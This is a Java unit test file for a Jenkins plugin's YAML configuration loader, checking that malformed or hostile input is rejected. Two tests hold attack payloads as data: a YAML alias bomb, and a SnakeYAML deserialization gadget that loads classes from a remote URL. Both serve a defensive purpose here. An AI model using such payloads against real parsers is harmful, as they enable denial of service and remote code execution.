package io.jenkins.plugins.planb.core.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConfigLoaderTest {

    @TempDir
    Path dir;

    @Test
    void loadsAFile() throws IOException, ConfigException {
        Path file = dir.resolve("planb.yaml");
        Files.writeString(file, "storage: { directory: { path: /srv/planb } }\nstateDir: /tmp/s\n");

        PlanbConfig config = ConfigLoader.load(file);

        assertThat(config.storage()).isEqualTo(new StorageSpec.Directory(Path.of("/srv/planb")));
        assertThat(config.stateDir()).isEqualTo(Path.of("/tmp/s"));
    }

    @Test
    void aMissingFileIsAConfigurationError() {
        Path file = dir.resolve("absent.yaml");
        assertThat(errorsOfLoading(file))
                .containsExactly(new ConfigError("", "cannot read " + file + ": no such file"));
    }

    @Test
    void aFileThatIsNotUtf8IsAConfigurationError() throws IOException {
        Path file = dir.resolve("latin1.yaml");
        Files.write(file, "storage: caf\u00e9".getBytes(StandardCharsets.ISO_8859_1));
        assertThat(errorsOfLoading(file)).singleElement().extracting(ConfigError::message).asString().endsWith("not UTF-8 text");
    }

    @Test
    void duplicateKeysAreRefusedWithTheirLine() {
        assertThat(errorsOfParsing("""
                storage: { directory: { path: /a } }
                groups:
                  - name: g
                    name: h
                """)).singleElement().satisfies(e -> {
                    assertThat(e.path()).isEmpty();
                    assertThat(e.message()).startsWith("not valid YAML: line 4, column 5: duplicate key 'name'");
                });
    }

    @Test
    void syntaxErrorsNameTheLine() {
        assertThat(errorsOfParsing("storage: { directory: [ }\n")).singleElement()
                .extracting(ConfigError::message).asString().startsWith("not valid YAML: line 1, column ");
    }

    @Test
    void aliasBombsAreRefused() {
        StringBuilder yaml = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 12; i++) {
            yaml.append("a").append(i).append(": &a").append(i).append(" [");
            yaml.append(String.join(", ", java.util.Collections.nCopies(10, "*a" + (i - 1)))).append("]\n");
        }
        assertThat(errorsOfParsing(yaml.toString())).singleElement()
                .extracting(ConfigError::message).asString().contains("aliases");
    }

    @Test
    void aFewAliasesAreFine() throws ConfigException {
        PlanbConfig config = ConfigLoader.parse("""
                storage: { directory: { path: /a } }
                groups:
                  - name: g
                    hosts:
                      - { name: a, address: a.example, exclude: &common [tmp, cache] }
                      - { name: b, address: b.example, exclude: *common }
                """);
        assertThat(config.hosts()).allSatisfy(h -> assertThat(h.exclude()).containsExactly("tmp", "cache"));
    }

    @Test
    void javaTypeTagsAreRefused() {
        assertThat(errorsOfParsing("storage: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n"))
                .singleElement().extracting(ConfigError::message).asString().startsWith("not valid YAML: ");
    }

    @Test
    void emptyAndNonMappingDocumentsAreRefused() {
        assertThat(errorsOfParsing("")).containsExactly(
                new ConfigError("", "the configuration is empty; it needs at least 'storage'"));
        assertThat(errorsOfParsing("- a\n- b\n")).containsExactly(
                new ConfigError("", "the configuration must be a mapping of storage, stateDir, defaults and groups"));
    }

    @Test
    void severalDocumentsAreRefused() {
        assertThat(errorsOfParsing("storage: {}\n---\nstorage: {}\n")).singleElement()
                .extracting(ConfigError::message).asString().startsWith("not valid YAML: ");
    }

    @Test
    void deepNestingIsRefused() {
        String deep = "a: " + "[".repeat(200) + "]".repeat(200) + "\n";
        assertThat(errorsOfParsing(deep)).singleElement()
                .extracting(ConfigError::message).asString().startsWith("not valid YAML: ");
    }

    private List<ConfigError> errorsOfLoading(Path file) {
        return catchThrowableOfType(ConfigException.class, () -> ConfigLoader.load(file)).errors();
    }

    private static List<ConfigError> errorsOfParsing(String yaml) {
        return catchThrowableOfType(ConfigException.class, () -> ConfigLoader.parse(yaml)).errors();
    }
}
